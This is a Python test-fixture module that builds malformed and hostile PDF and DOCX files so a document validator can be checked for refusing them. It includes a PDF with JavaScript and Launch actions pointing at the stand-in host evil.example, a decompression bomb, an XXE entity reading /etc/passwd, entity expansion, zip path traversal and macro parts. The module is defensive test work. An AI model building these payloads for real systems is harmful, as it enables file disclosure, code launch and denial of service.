"""Papers made for the tests, good ones and bad ones."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image
from PIL.ExifTags import Base
from PIL.PngImagePlugin import PngInfo

from agency.files.documents import (
    Broken,
    HasMacros,
    HoldsFiles,
    LeadsOutside,
    Locked,
    NotADocument,
    TooHard,
    TooHeavy,
    TooManyPages,
)
from agency.files.refused import Refused
from tests.kit.photos import small, two_halves, written

SECRET = "SecretoDeAna"
"""Stands wherever a paper tells of its author, its place or its past."""
EVIL = "evil.example"
"""Stands wherever a paper acts or leads outside."""

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def photo_with_a_place() -> bytes:
    """A JPEG that says who took it."""
    image = two_halves(60, 40)
    exif = image.getexif()
    exif[Base.Make] = SECRET
    return written(image, "JPEG", exif=exif.tobytes(), comment=SECRET.encode())


def pdf(*texts: str, change: Callable[[Pdf], None] | None = None, **saving: object) -> bytes:
    """A PDF with a page for each text."""
    with pikepdf.new() as paper:
        for text in texts or ("Certificado",):
            paper.add_blank_page(page_size=(300, 200))
            page = paper.pages[-1]
            font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            page.obj.Resources = Dictionary(Font=Dictionary({"/A": font}))
            page.obj.Contents = Stream(paper, f"BT /A 12 Tf 20 100 Td ({text}) Tj ET".encode())
        if change is not None:
            change(paper)
        out = BytesIO()
        paper.save(out, **saving)  # type: ignore[arg-type]
        return out.getvalue()


def busy(paper: Pdf) -> None:
    """The PDF acts in every way that there is, and tells everything of its author."""
    root, page = paper.Root, paper.pages[0].obj
    script = Dictionary(S=Name.JavaScript, JS=String(f"app.launchURL('//{EVIL}')"))
    launch = Dictionary(S=Name.Launch, F=String(f"//{EVIL}/x.exe"))
    link = Dictionary(S=Name.URI, URI=String(f"https://{EVIL}/"))
    root.OpenAction = script
    root.AA = Dictionary(WC=script)
    attached = Dictionary(Type=Name.Filespec, F=String(EVIL), EF=Dictionary(F=Stream(paper, EVIL.encode())))
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), script])),
        EmbeddedFiles=Dictionary(Names=Array([String("x"), attached])),
    )
    root.AF = Array([attached])
    root.PageLabels = Dictionary(Nums=Array([0, Dictionary(P=String(SECRET))]))
    root.Metadata = Stream(paper, f"<x:xmpmeta>{SECRET}</x:xmpmeta>".encode())
    paper.docinfo["/Author"] = String(SECRET)
    page.AA = Dictionary(O=script)
    page.Metadata = Stream(paper, SECRET.encode())
    page.PieceInfo = Dictionary(Word=Dictionary(Private=String(SECRET)))
    square = Array([10, 10, 90, 30])
    shown = Stream(paper, b"BT /A 9 Tf 2 5 Td (Alicia Quispe) Tj ET")
    shown.update(
        Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 80, 20]), Resources=page.Resources)
    )
    field = paper.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("nombre"),
            V=String("Alicia Quispe"),
            Rect=square,
            F=4,
            P=page,
            AA=Dictionary(K=script),
            AP=Dictionary(N=shown),
            DA=String("/A 9 Tf"),
        )
    )
    root.AcroForm = Dictionary(
        Fields=Array([field]), XFA=Stream(paper, EVIL.encode()), DR=Dictionary(Font=page.Resources.Font)
    )
    page.Annots = Array(
        [
            field,
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=square, A=link),
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=square, A=launch, PA=link),
            Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=square, FS=attached),
            Dictionary(
                Type=Name.Annot, Subtype=Name.Text, Rect=square, Contents=String(SECRET), T=String(SECRET)
            ),
        ]
    )
    photo = Stream(paper, photo_with_a_place())
    photo.update(
        Dictionary(
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=60,
            Height=40,
            BitsPerComponent=8,
            ColorSpace=Name.DeviceRGB,
            Filter=Name.DCTDecode,
            Metadata=Stream(paper, SECRET.encode()),
            OPI=Dictionary({"/1.3": Dictionary(F=String(f"//{EVIL}/a.tif"))}),
            Alternates=Array([Dictionary(Image=Stream(paper, EVIL.encode()))]),
        )
    )
    packed = Stream(paper, zlib.compress(photo_with_a_place()))
    packed.update(Dictionary(Type=Name.XObject, Subtype=Name.Image))
    packed.update(Dictionary(Width=60, Height=40, BitsPerComponent=8, ColorSpace=Name.DeviceRGB))
    packed.Filter = Array([Name.FlateDecode, Name.DCTDecode])
    elsewhere = Stream(paper, b"")
    elsewhere.update(Dictionary(Type=Name.XObject, Subtype=Name.Image, F=String(f"//{EVIL}/b.jpg")))
    proxy = Stream(paper, b"")
    proxy.update(
        Dictionary(
            Type=Name.XObject,
            Subtype=Name.Form,
            BBox=square,
            Ref=Dictionary(F=String(f"//{EVIL}/c.pdf"), Page=0),
            PieceInfo=Dictionary(Private=String(SECRET)),
        )
    )
    printed = Stream(paper, f"({EVIL}) run".encode())
    printed.update(Dictionary(Type=Name.XObject, Subtype=Name.PS))
    page.Resources.XObject = Dictionary(Im=photo, Zip=packed, Far=elsewhere, Proxy=proxy, Printed=printed)
    page.Resources.Properties = Dictionary(Mc0=Dictionary(Metadata=Stream(paper, SECRET.encode())))


def heavy(paper: Pdf) -> None:
    """A picture in the PDF is unpacked to two gigabytes."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the same block may stand there again and again.
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    bomb = Stream(paper, zlib.compress(head + block * (1 << 11) + packer.flush(), 9))
    bomb.update(Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8))
    bomb.ColorSpace = Name.DeviceGray
    bomb.Filter = Array([Name.FlateDecode, Name.FlateDecode, Name.DCTDecode])
    paper.pages[0].obj.Resources.XObject = Dictionary(Im=bomb)


def rels(*ties: str) -> str:
    """A part's ties, as XML."""
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{"".join(ties)}</Relationships>'


def tie(name: str, kind: str, target: str, mode: str = "Internal") -> str:
    """One tie to another part, or to somewhere else."""
    return f'<Relationship Id="{name}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def body(inside: str, attributes: str = "") -> str:
    """The document's part with this inside."""
    spaces = " ".join(
        (
            f'xmlns:w="{W}"',
            f'xmlns:r="{OFFICE}"',
            'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"',
            'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"',
            'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"',
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"',
            'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"',
            'xmlns:v="urn:schemas-microsoft-com:vml"',
            'xmlns:o="urn:schemas-microsoft-com:office:office"',
        )
    )
    return f'<w:document {spaces} mc:Ignorable="w14" {attributes}><w:body>{inside}</w:body></w:document>'


def said(text: str) -> str:
    """A paragraph."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx(
    inside: str = said("Certificado"),
    ties: tuple[str, ...] = (),
    parts: Mapping[str, str | bytes] | None = None,
    main_type: str = MAIN_TYPE,
) -> bytes:
    """A DOCX whose document has this inside, with these ties and further parts."""
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    whole: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{space}">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/></Types>',
        "_rels/.rels": rels(tie("rId1", "officeDocument", "word/document.xml")),
        "word/document.xml": body(inside),
        "word/_rels/document.xml.rels": rels(*ties),
        **(parts or {}),
    }
    return zipped(list(whole.items()))


def zipped(entries: list[tuple[str, str | bytes]]) -> bytes:
    """A zip with these entries, whatever their names."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as package:
        for name, content in entries:
            package.writestr(ZipInfo(name), content, ZIP_DEFLATED)
    return out.getvalue()


ENTITIES = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
FAR = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'

Wrong = tuple[Callable[[], bytes], type[Refused]]


def _tied(kind: str, target: str, mode: str = "Internal", **parts: bytes) -> Callable[[], bytes]:
    there = {f"word/{target}": b"x"} if mode == "Internal" else {}
    return lambda: docx(ties=(tie("rId9", kind, target, mode),), parts=there)


WRONG_PDFS: dict[str, Wrong] = {
    "a PDF with a password": (
        lambda: pdf(encryption=pikepdf.Encryption(owner="x", user="y")),
        Locked,
    ),
    "a PDF that may only be read": (
        lambda: pdf(encryption=pikepdf.Encryption(owner="x", user="")),
        Locked,
    ),
    "half a PDF": (lambda: pdf()[: len(pdf()) // 2], Broken),
    "a PDF without an end": (lambda: pdf()[:-30], Broken),
    "a PDF's head": (lambda: b"%PDF-1.7\n", Broken),
    "a PDF without pages": (lambda: pdf(change=lambda paper: paper.pages.remove(p=1)), Broken),
    "a book": (lambda: pdf(*("x" for _ in range(101))), TooManyPages),
    "a PDF that unpacks to gigabytes": (lambda: pdf(change=heavy), TooHard),
    "a PDF behind a page": (lambda: b"<html></html>" + pdf(), NotADocument),
}
WRONG_DOCX: dict[str, Wrong] = {
    "a program in Word": (
        lambda: docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        HasMacros,
    ),
    "a program by its tie": (_tied("vbaProject", "x.bin"), HasMacros),
    "a program by its name": (lambda: docx(parts={"word/vbaProject.bin": b"x"}), HasMacros),
    "a control": (_tied("control", "x.xml"), HasMacros),
    "keys that start programs": (_tied("keyMapCustomizations", "customizations.xml"), HasMacros),
    "a template from elsewhere": (
        _tied("attachedTemplate", f"https://{EVIL}/t.dotm", "External"),
        LeadsOutside,
    ),
    "a picture from elsewhere": (_tied("image", f"https://{EVIL}/a.png", "External"), LeadsOutside),
    "an unknown tie to elsewhere": (_tied("theme", f"file://{EVIL}/a", "External"), LeadsOutside),
    "a page inside": (_tied("aFChunk", "x.xml"), LeadsOutside),
    "a chunk in the text": (lambda: docx('<w:altChunk r:id="rId9"/>'), LeadsOutside),
    "an object": (_tied("oleObject", "x.bin"), HoldsFiles),
    "a sheet inside": (lambda: docx(parts={"word/embeddings/x.xlsx": b"x"}), HoldsFiles),
    "an object in the text": (lambda: docx("<w:p><w:r><w:object/></w:r></w:p>"), HoldsFiles),
    "a drawing that Windows runs": (_tied("image", "media/a.wmf"), HoldsFiles),
    "a chart": (_tied("chart", "charts/chart1.xml"), HoldsFiles),
    "a part under another name": (_tied("styles", "other.xml"), HoldsFiles),
    "a word that means a thousand": (
        lambda: docx(parts={"word/document.xml": ENTITIES + body("&b;")}),
        LeadsOutside,
    ),
    "a word that means a file": (lambda: docx(parts={"word/document.xml": FAR + body("&a;")}), LeadsOutside),
    "such a word among the ties": (lambda: docx(parts={"_rels/.rels": FAR + rels()}), LeadsOutside),
    "such a word among the types": (
        lambda: docx(parts={"[Content_Types].xml": FAR + "<Types/>"}),
        LeadsOutside,
    ),
    "a bomb": (lambda: docx(parts={f"word/x{n}.bin": bytes(16 << 20) for n in range(4)}), TooHard),
    "a bomb in XML": (lambda: docx(parts={"word/styles.xml": bytes(13 << 20)}), TooHard),
    "a thousand parts": (lambda: docx(parts={f"word/x{n}": b"" for n in range(1000)}), TooHard),
    "a name that climbs": (lambda: docx(parts={"word/../../etc/passwd": b"x"}), Broken),
    "a name from the root": (lambda: docx(parts={"/etc/passwd": b"x"}), Broken),
    "a name from Windows": (lambda: docx(parts={"word\\\\x.xml": b"x"}), Broken),
    "the same name twice": (lambda: docx(parts={"word/DOCUMENT.xml": b"x"}), Broken),
    "any zip": (lambda: zipped([("a.txt", b"hola")]), Broken),
    "half a DOCX": (lambda: docx()[: len(docx()) // 2], Broken),
    "a DOCX that is no XML": (lambda: docx("<w:p>"), Broken),
    "XML as deep as the sea": (lambda: docx("<w:p>" * 20_000 + "</w:p>" * 20_000), Broken),
    "a page as a document": (lambda: docx(parts={"word/document.xml": "<html/>"}), Broken),
    "a broken photo": (
        lambda: docx(ties=(tie("rId9", "image", "media/a.jpg"),), parts={"word/media/a.jpg": b"GIF89a"}),
        Broken,
    ),
}
WRONG_PAPERS: dict[str, Wrong] = {
    "nothing": (lambda: b"", NotADocument),
    "text": (lambda: b"Certificado", NotADocument),
    "a photo": (small, NotADocument),
    "html": (lambda: b"<!doctype html><script>alert(1)</script>", NotADocument),
    "an old DOC": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), NotADocument),
    "RTF": (lambda: b"{\\rtf1 hola}", NotADocument),
    "9 MB": (lambda: pdf() + bytes(9 << 20), TooHeavy),
    **WRONG_PDFS,
    **WRONG_DOCX,
}


def a_picture_with_words() -> bytes:
    """A PNG that says who made it."""
    note = PngInfo()
    note.add_text("Author", SECRET)
    return written(Image.new("RGB", (20, 10), "red"), "PNG", pnginfo=note)
